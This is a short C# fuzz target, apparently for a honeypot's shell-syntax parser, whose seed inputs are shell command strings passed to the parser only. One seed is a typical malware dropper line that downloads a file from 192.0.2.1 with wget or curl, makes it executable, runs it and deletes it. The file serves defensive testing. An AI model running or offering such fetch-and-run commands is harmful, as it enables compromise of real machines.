using System.Text;
using Blackwall.Tarpit.Shell.Syntax;

namespace Blackwall.Fuzz.Tarpit;

/// <summary>Shell text.</summary>
internal sealed class TarpitShellTarget : IFuzzTarget
{
    public string Name => "tarpit-shell";

    public IReadOnlyList<byte[]> Seeds { get; } =
    [
        [.. "for i in 1 2 3; do echo \"$i $(ls | wc -l) ${x:-y}\" > /tmp/a 2>&1; done && if [ -f a ]; then cat <<EOF\nx\nEOF\nfi"u8],
        [.. "f() { case $1 in a*) echo `id`;; *) ((x++));; esac; }; while read l; do f $l; done <<< 'a' | sort & [[ a == b ]]"u8],
        [.. "cd /tmp; wget http://192.0.2.1/x || curl -O http://192.0.2.1/x; chmod +x x; ./x; rm -rf x"u8],
        [],
    ];

    public string? Run(ReadOnlySpan<byte> input)
    {
        try
        {
            Parser.Parse(Encoding.Latin1.GetString(input));
        }
        catch (SyntaxException)
        {
            // What is no shell text is refused by name.
        }

        return null;
    }
}
